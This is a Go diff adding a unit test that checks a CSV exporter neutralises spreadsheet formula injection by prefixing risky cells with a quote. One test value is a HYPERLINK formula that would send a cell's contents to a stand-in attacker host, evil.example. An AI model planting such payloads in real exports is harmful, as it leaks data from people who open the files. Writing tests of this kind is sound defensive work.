@@ -624,3 +624,42 @@ func (c *countWriter) Write(p []byte) (int, error) {
 	*c += countWriter(len(p))
 	return len(p), nil
 }
+
+func TestCSV_FormulaInjection(t *testing.T) {
+	ds := storetest.Synthetic()
+	ds.Cities[0].Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	ds.Cities[0].LocalName = "@SUM(A1:A9)"
+	ds.Cities[1].Name = "+1+1"
+	ds.Networks[0].Name = "-2+3"
+	ds.Offices[0].Title = "=1+1"
+	s := MustStore(t, ds)
+	nodes := MustCSV(t, export.NodesCSV, s)
+	for _, want := range [][2]string{
+		{ds.Cities[0].ID, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{ds.Cities[1].ID, "'+1+1"},
+		{ds.Networks[0].ID, "'-2+3"},
+	} {
+		i := slices.IndexFunc(nodes, func(r []string) bool { return r[0] == want[0] })
+		if i < 0 || nodes[i][2] != want[1] || nodes[i][3] != want[1] {
+			t.Errorf("node %s: got %q, want label and name %q", want[0], nodes[max(i, 0)], want[1])
+		}
+	}
+	if i := slices.IndexFunc(nodes, func(r []string) bool { return r[0] == ds.Cities[0].ID }); nodes[i][4] != "'@SUM(A1:A9)" {
+		t.Errorf("local_name: got %q, want '@SUM(A1:A9)", nodes[i][4])
+	}
+	// Dates keep their form: "--04" is a validated date, not a formula.
+	if !slices.ContainsFunc(nodes, func(r []string) bool { return r[0] == "ev2" && r[9] == "--04" }) {
+		t.Error(`event ev2: want its date "--04" unchanged`)
+	}
+	edges := MustCSV(t, export.EdgesCSV, s)
+	if !slices.ContainsFunc(edges, func(r []string) bool { return r[2] == "HOLDS_OFFICE" && r[6] == "'=1+1" }) {
+		t.Errorf("edges: no HOLDS_OFFICE row with title '=1+1 in %q", edges)
+	}
+	for _, r := range append(nodes, edges...) {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
+				t.Errorf("a cell starts with a formula character: %q in %q", cell, r)
+			}
+		}
+	}
+}
